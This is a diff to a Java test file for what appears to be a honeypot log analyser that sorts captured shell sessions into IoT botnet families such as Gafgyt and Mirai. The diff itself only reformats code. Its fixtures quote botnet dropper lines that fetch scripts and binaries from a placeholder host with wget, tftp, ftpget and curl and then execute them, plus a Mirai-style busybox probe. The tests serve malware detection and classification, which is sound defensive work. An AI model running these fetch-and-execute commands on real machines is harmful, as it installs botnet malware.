@@ -106,10 +106,10 @@ class UnderstandingTest {
     void a_gafgyt_line_names_its_cpus_in_the_order_of_its_tries() {
         SessionRecord row =
                 row(
-                        "cd /tmp || cd /var/run || cd /mnt; wget http://192.0.2.9/bins.sh; sh bins.sh;"
-                                + " tftp 192.0.2.9 -c get tftp1.sh; sh tftp1.sh; tftp -r tftp2.sh -g"
-                                + " 192.0.2.9; sh tftp2.sh; ftpget -v -u anonymous -p anonymous -P"
-                                + " 21 192.0.2.9 ftp1.sh ftp1.sh",
+                        "cd /tmp || cd /var/run || cd /mnt; wget http://192.0.2.9/bins.sh; sh"
+                            + " bins.sh; tftp 192.0.2.9 -c get tftp1.sh; sh tftp1.sh; tftp -r"
+                            + " tftp2.sh -g 192.0.2.9; sh tftp2.sh; ftpget -v -u anonymous -p"
+                            + " anonymous -P 21 192.0.2.9 ftp1.sh ftp1.sh",
                         "wget http://192.0.2.9/a.mpsl; ./a.mpsl; wget http://192.0.2.9/a.arm7;"
                                 + " ./a.arm7; curl -O 192.0.2.9/a.sh4");
 
@@ -141,8 +141,8 @@ class UnderstandingTest {
     void writing_kami_is_a_look_and_no_download() {
         SessionRecord row =
                 row(
-                        "/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69/dev' > /dev/.nippon; /bin/busybox"
-                                + " cat /dev/.nippon; /bin/busybox rm /dev/.nippon");
+                        "/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69/dev' > /dev/.nippon;"
+                            + " /bin/busybox cat /dev/.nippon; /bin/busybox rm /dev/.nippon");
 
         assertThat(row.reached(Stage.DOWNLOAD)).isFalse();
         assertThat(row.family()).isEqualTo("mirai");
@@ -273,21 +273,20 @@ class UnderstandingTest {
         assertThatThrownBy(() -> FamilyRules.parse("version = \"1\"\n[[family]]\nname=", "my.toml"))
                 .isInstanceOf(OperatorMistake.class)
                 .hasMessageContaining("my.toml, line 3");
-        assertThatThrownBy(
-                        () ->
-                                FamilyRules.parse(
-                                        """
-                                        version = "1"
-                                        [[family]]
-                                        name = "x"
-                                        en = "x"
-                                        ja = "x"
-                                        [[family.rule]]
-                                        id = "r"
-                                        line = "("
-                                        points = 3
-                                        """,
-                                        "my.toml"))
+        assertThatThrownBy(() ->
+                        FamilyRules.parse(
+                                """
+                                version = "1"
+                                [[family]]
+                                name = "x"
+                                en = "x"
+                                ja = "x"
+                                [[family.rule]]
+                                id = "r"
+                                line = "("
+                                points = 3
+                                """,
+                                "my.toml"))
                 .isInstanceOf(OperatorMistake.class)
                 .hasMessageContaining("\"r\" is no regular expression");
     }
